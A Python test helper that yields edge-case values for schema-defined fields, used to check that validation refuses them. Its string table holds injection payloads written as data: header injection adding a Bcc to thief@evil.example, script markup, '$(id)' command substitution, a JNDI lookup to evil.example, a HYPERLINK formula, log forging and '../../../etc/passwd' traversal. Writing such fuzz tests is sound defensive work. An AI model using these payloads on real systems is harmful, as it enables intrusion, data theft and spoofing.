# SPDX-License-Identifier: Apache-2.0
"""Values that nobody writes by mistake, for any field by its schema."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

HUGE = 10**30
BEYOND_INT64 = 2**63
LONGEST = 40_000
"""Characters; more than any field takes."""

TEXTS = {
    "empty": "",
    "blank": " ",
    "newline": "a\nb",
    "carriage return": "a\r\nBcc: thief@evil.example\r\n\r\nb",
    "tab": "a\tb",
    "null": "a\x00b",
    "escape": "a\x1b[31m\x1b]0;owned\x07b",
    "delete": "a\x7fb",
    "c1": "a\x9b31mb",
    "next line": "a\x85b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "right to left": "a\u202egpj.exe\u2066b",
    "zero width": "a\u200b\u200d\ufeffb",
    "combining": "a" + "\u0301" * 40,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 a",
    "private use": "a\ue000\U0010fffdb",
    "noncharacter": "a\ufffe\uffffb",
    "markup": "<script>alert(1)</script>&amp;'\"",
    "format": "%s%n{0}{self.__class__}$(id)`id`${jndi:ldap://evil.example}",
    "formula": '=HYPERLINK("https://evil.example")',
    "json": '"},{"level":"error","msg":"forged',
    "encoded word": "=?utf-8?q?a=0D=0ABcc=3A_thief=40evil.example?=",
    "number": "1e309",
    "path": "../../../etc/passwd",
    "other digits": "\u0661\u0662\u0663",
    "wide": "\uff41\uff42\uff43",
    "dotless": "\u0130\u0131\u017f\u212a",
}
"""By what is odd about it."""


def texts(schema: dict[str, Any], usual: Any) -> Iterator[tuple[str, Any]]:
    """For a field that takes text; ``usual`` is a value that it takes."""
    yield from TEXTS.items()
    for what, text in TEXTS.items():
        if text.strip():
            yield f"{what} behind what is usual", f"{usual}{text}"
    most = schema.get("maxLength")
    yield "far too long", "a" * LONGEST
    if most is not None:
        yield "too long", str(usual) + "a" * (most + 1 - len(str(usual)))
        yield "longest", "a" * most
        yield "longest in three bytes each", "\u0100" * (most - 1) + "\u20ac"
        yield "longest in four bytes each", "\U0001f600" * most
    yield from other_types("text")


def numbers(schema: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    """For a field that takes whole numbers."""
    for name, step in (("minimum", -1), ("maximum", 1)):
        if name in schema:
            yield f"the {name}", schema[name]
            yield f"beyond the {name}", schema[name] + step
    yield "beyond 64 bits", BEYOND_INT64
    yield "far below", -HUGE
    yield "huge", HUGE
    yield "a fraction", 1.5
    yield "a whole fraction", 2.0
    yield "tiny", 5e-324
    yield from other_types("number")


def lists(schema: dict[str, Any], usual: Any) -> Iterator[tuple[str, Any]]:
    """For a field that takes a list."""
    most = schema["maxItems"]
    item = usual[0] if usual else "a"
    yield "too many", [item] * (most + 1)
    yield "empty", []
    yield "twice the same", [item, item]
    yield "nothing within", [None]
    yield "lists within", [[[[[item]]]]]
    yield from other_types("list")


def maps(schema: dict[str, Any], usual: Any) -> Iterator[tuple[str, Any]]:
    """For a field that takes a map by names of the writer's own."""
    value = next(iter(usual.values()), "a")
    yield "too many", {f"k{number}": value for number in range(schema["maxProperties"] + 1)}
    yield "empty", {}
    for what, text in TEXTS.items():
        yield f"{what} as a name", {text: value}
    yield "a long name", {"a" * LONGEST: value}
    yield from other_types("map")


def other_types(own: str) -> Iterator[tuple[str, Any]]:
    """What is of no type that a field takes."""
    others = {"text": "a", "number": 1, "list": [{"a": "b"}], "map": {"a": {"b": {"c": []}}}, "truth": True}
    yield from ((f"of another type: {name}", value) for name, value in others.items() if name != own)
    yield "nothing", None


def of(schema: dict[str, Any], usual: Any) -> Iterator[tuple[str, Any]]:
    """All of them for a field, each with what is odd about it."""
    match schema:
        case {"type": "string"} | {"x-kubernetes-int-or-string": True}:
            yield from texts(schema, usual)
        case {"type": "integer"}:
            yield from numbers(schema)
        case {"type": "array"}:
            yield from lists(schema, usual)
        case {"type": "object"}:
            yield from maps(schema, usual)
        case {"type": "boolean"}:
            yield from other_types("truth")
        case _:
            raise AssertionError(f"no oddities for {schema}")


MUST_REFUSE = frozenset({"too long", "far too long", "too many", "beyond the minimum", "beyond the maximum"})
"""What is beyond a bound of the schema."""
EVERYWHERE = MUST_REFUSE | {"newline", "null", "right to left", "escape", "longest", "nothing"}
"""What is tried in every field; everything is tried in one field of each schema."""
